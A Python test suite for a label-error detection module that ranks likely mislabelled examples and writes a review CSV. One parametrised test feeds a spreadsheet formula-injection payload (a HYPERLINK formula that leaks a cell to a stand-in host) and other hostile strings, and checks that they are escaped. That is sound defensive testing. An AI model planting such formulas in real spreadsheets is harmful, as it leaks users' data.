"""Planted label errors are found, and what comes from strangers is refused or made harmless."""

import csv
import importlib.util
import json

import numpy as np
import pytest

from tf_finetune.errors import InputError
from tf_finetune.evaluation.label_errors import COLUMNS, likely_errors, read_out_of_fold, review


def planted(*, classes=2, skill=3.0, examples=2000, seed=0):
    """Probabilities of an imperfect model, labels, and which of these were flipped: one in twenty."""
    random = np.random.default_rng(seed)
    true = random.integers(classes, size=examples)
    logits = random.normal(size=(examples, classes)) + skill * np.eye(classes)[true]
    probabilities = np.exp(logits) / np.exp(logits).sum(axis=-1, keepdims=True)
    flipped = random.choice(examples, size=examples // 20, replace=False)
    labels = true.copy()
    labels[flipped] = (true[flipped] + random.integers(1, classes, size=len(flipped))) % classes
    return probabilities, true, labels, flipped


class TestOneLabel:
    @pytest.mark.parametrize(("classes", "skill"), [(2, 3.0), (3, 4.0), (10, 5.0)])
    def test_the_first_are_the_planted_ones(self, classes, skill):
        probabilities, true, labels, flipped = planted(classes=classes, skill=skill)
        assert 0.97 < (probabilities.argmax(axis=-1) == true).mean() < 1
        first = likely_errors(probabilities, labels)[: len(flipped)]
        assert len({error.index for error in first} & set(flipped)) >= 0.7 * len(flipped)

    def test_a_set_without_errors_has_few(self):
        probabilities, true, _, _ = planted()
        assert len(likely_errors(probabilities, true)) < 0.005 * len(true)

    def test_what_is_said_of_each(self):
        probabilities, _, labels, _ = planted(classes=3, skill=4.0)
        errors = likely_errors(probabilities, labels)
        for error in errors:
            assert error.given == (labels[error.index],)
            assert error.suggested == (probabilities[error.index].argmax(),) != error.given
            assert error.quality == pytest.approx(probabilities[error.index, error.given[0]])
        qualities = [error.quality for error in errors]
        assert qualities == sorted(qualities)

    @pytest.mark.parametrize("examples", [0, 5])
    def test_one_class_alone_has_none(self, examples):
        assert likely_errors(np.full((examples, 2), 0.5), np.zeros(examples, int)) == []

    def test_a_class_that_no_label_has(self):
        probabilities, _, labels, _ = planted()
        wider = np.pad(probabilities, ((0, 0), (0, 1)))
        assert likely_errors(wider, labels) == likely_errors(probabilities, labels)


class TestSeveralLabels:
    @pytest.fixture
    def case(self):
        """Three classes, each a binary case of its own, one label in fifty flipped; and one that all examples have."""
        random = np.random.default_rng(0)
        true = np.pad(random.integers(2, size=(1500, 3)), ((0, 0), (0, 1)), constant_values=1)
        logits = random.normal(size=true.shape) + 3 * (2 * true - 1)
        is_flipped = random.random(true.shape) < 0.02
        is_flipped[:, 3] = False
        return 1 / (1 + np.exp(-logits)), true, true ^ is_flipped, is_flipped

    def test_the_first_are_the_planted_ones(self, case):
        probabilities, _, labels, is_flipped = case
        planted = set(np.flatnonzero(is_flipped.any(axis=-1)))
        first = likely_errors(probabilities, labels)[: len(planted)]
        assert len({error.index for error in first} & planted) >= 0.7 * len(planted)

    def test_a_set_without_errors_has_few(self, case):
        probabilities, true, _, _ = case
        assert len(likely_errors(probabilities, true)) < 0.01 * len(true)

    def test_the_suggestion_differs_in_the_flipped_class(self, case):
        probabilities, true, labels, is_flipped = case
        errors = [error for error in likely_errors(probabilities, labels) if is_flipped[error.index].any()]
        right = [error.suggested == tuple(np.flatnonzero(true[error.index])) for error in errors]
        assert all(error.given == tuple(np.flatnonzero(labels[error.index])) for error in errors)
        assert np.mean(right) > 0.9

    def test_classes_that_do_not_vary_have_none(self):
        assert likely_errors(np.full((4, 2), 0.5), np.array([[1, 0]] * 4)) == []


def test_without_cleanlab(monkeypatch):
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None)
    expected = r"needs cleanlab, not installed here, expected pip install 'tf_finetune\[audit\]'"
    with pytest.raises(InputError, match=expected):
        likely_errors(np.full((4, 2), 0.5), np.array([0, 1, 0, 1]))


def rows_of(texts, *, several=False, **more):
    """As `cross-validate` writes them: "pos" where the model says so, but for the first text."""
    for number, text in enumerate(texts):
        p = 0.97 if number % 2 else 0.03
        true = "pos" if number % 2 or not number else "neg"
        answer = {"labels": ["pos"] if p > 0.5 else []} if several else {"label": "pos" if p > 0.5 else "neg"}
        yield {
            "where": f"reviews.csv line {number + 2}",
            "true": [true] if several else true,
            "text": text,
            **more,
            **answer,
            "probabilities": {"neg": 1 - p, "pos": p},
        }


def written(path, rows):
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")
    return path


def table(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


class TestReview:
    def test_the_planted_one_is_in_the_table(self, tmp_path):
        answers = written(tmp_path / "out_of_fold.jsonl", rows_of([f"film {n}" for n in range(60)]))
        found = review(answers, tmp_path / "errors.csv")
        assert table(tmp_path / "errors.csv") == [
            list(COLUMNS), ["1", "reviews.csv line 2", "film 0", "pos", "neg", "0.03"]
        ]  # fmt: skip
        assert found | {"rows": None} == {
            "examples": 60, "likely_errors": 1, "share": 1 / 60, "table": str(tmp_path / "errors.csv"), "rows": None
        }  # fmt: skip
        (row,) = found["rows"]
        assert row.pop("quality") == pytest.approx(0.03)
        assert row == {"rank": 1, "given": "pos", "suggested": "neg", "where": "reviews.csv line 2", "text": "film 0"}
        json.dumps(found, allow_nan=False)

    def test_pairs_stand_below_each_other(self, tmp_path):
        rows = rows_of([f"film {n}" for n in range(60)], text_pair="=and it was good")
        found = review(written(tmp_path / "a.jsonl", rows), tmp_path / "errors.csv")
        assert found["rows"][0]["text_pair"] == "=and it was good"
        assert table(tmp_path / "errors.csv")[1][2] == "film 0\n'=and it was good"

    def test_several_labels(self, tmp_path):
        rows = rows_of([f"film {n}" for n in range(60)], several=True)
        review(written(tmp_path / "a.jsonl", rows), tmp_path / "errors.csv")
        assert table(tmp_path / "errors.csv")[1][3:5] == ["pos", "neg"]

    def test_fewer_rows_are_returned_than_written(self, tmp_path):
        probabilities, _, labels, _ = planted(examples=400)
        rows = [
            {"where": f"a line {n}", "true": "ab"[label], "text": str(n), "probabilities": {"a": p[0], "b": p[1]}}
            for n, (p, label) in enumerate(zip(probabilities, labels, strict=True))
        ]
        found = review(written(tmp_path / "a.jsonl", rows), tmp_path / "errors.csv", shown=3)
        errors = likely_errors(probabilities, labels)
        assert [row["text"] for row in found["rows"]] == [str(error.index) for error in errors[:3]]
        assert [row[2] for row in table(tmp_path / "errors.csv")[1:]] == [str(error.index) for error in errors]

    @pytest.mark.parametrize(
        ("text", "cell"),
        [
            ('=HYPERLINK("http://a.example/?"&A1,"click")', '\'=HYPERLINK("http://a.example/?"&A1,"click")'),
            ('a "quoted", and\na second line;\tend', 'a "quoted", and\na second line;\tend'),
            ("abc\u202ecba", r"abc\u202ecba"),
            ("nul\x00inside", r"nul\x00inside"),
            ("half \ud83d character", r"half \ud83d character"),
        ],
    )
    def test_hostile_texts_are_texts(self, tmp_path, text, cell):
        rows = [row | {"where": "=A1"} for row in rows_of([text, *(f"film {n}" for n in range(59))])]
        path = tmp_path / "a.jsonl"
        path.write_text("".join(json.dumps(row) + "\n" for row in rows))
        review(path, tmp_path / "errors.csv")
        assert table(tmp_path / "errors.csv")[1:] == [["1", "'=A1", cell, "pos", "neg", "0.03"]]


class TestReadOutOfFold:
    def test_arrays(self, tmp_path):
        read = read_out_of_fold(written(tmp_path / "a.jsonl", rows_of(["film", "film", "film"])))
        assert read.label_names == ("neg", "pos")
        np.testing.assert_allclose(read.probabilities, [[0.97, 0.03], [0.03, 0.97], [0.97, 0.03]])
        assert read.labels.tolist() == [1, 1, 0]

    def test_several_labels(self, tmp_path):
        rows = rows_of(["film", "film"], several=True)
        assert read_out_of_fold(written(tmp_path / "a.jsonl", rows)).labels.tolist() == [[0, 1], [0, 1]]

    def test_a_regression_is_refused(self, tmp_path):
        path = written(tmp_path / "a.jsonl", [{"where": "a", "true": 0.5, "text": "film", "score": 0.25}])
        expected = "label errors are looked for among classes, in .* line 1, expected answers of a classifier, got num"
        with pytest.raises(InputError, match=expected):
            read_out_of_fold(path)

    @pytest.mark.parametrize(
        ("fault", "expected"),
        [
            ("nothing", "malformed line, in .* line 2, expected an object with where, .* got nothing"),
            ("[" * 100_000, "malformed line, in .* line 2, .* got "),
            ({"text": None}, "malformed line, in .* line 2"),
            ({"probabilities": {"neg": 1.0}}, r"malformed answer, .* line 2, .* of neg, pos, got \{\"neg\": 1.0\}"),
            ({"probabilities": {"neg": float("nan"), "pos": 0.5}}, "malformed answer, .* line 2, .* NaN"),
            ({"probabilities": {"neg": -0.5, "pos": 1.5}}, "malformed answer, .* line 2"),
            ({"probabilities": {"neg": True, "pos": 0.5}}, "malformed answer, .* line 2"),
            ({"probabilities": None}, "malformed answer, .* line 2, .* got null"),
            ({"true": "other"}, 'malformed label, .* line 2, expected one of neg, pos, .* got "other"'),
            ({"true": ["pos"]}, r"malformed label, .* line 2, .* got \[\"pos\"\]"),
            ({"true": 1}, "malformed label, .* line 2, .* got 1"),
        ],
    )
    def test_a_malformed_line_is_named(self, tmp_path, fault, expected):
        first, second = rows_of(["film", "film"])
        path = written(tmp_path / "a.jsonl", [first])
        with path.open("a") as file:
            file.write(fault if isinstance(fault, str) else json.dumps(second | fault))
        with pytest.raises(InputError, match=expected) as caught:
            read_out_of_fold(path)
        assert len(str(caught.value)) < 600

    def test_an_empty_file(self, tmp_path):
        with pytest.raises(InputError, match="no answers, in .*, expected out_of_fold.jsonl of `cross-validate`"):
            read_out_of_fold(written(tmp_path / "a.jsonl", []))

    @pytest.mark.parametrize("content", [None, b"\xff\xfe"])
    def test_an_unreadable_file(self, tmp_path, content):
        if content:
            (tmp_path / "a.jsonl").write_bytes(content)
        with pytest.raises(InputError, match="unreadable answers, in .*, expected JSON lines in UTF-8, got "):
            read_out_of_fold(tmp_path / "a.jsonl")
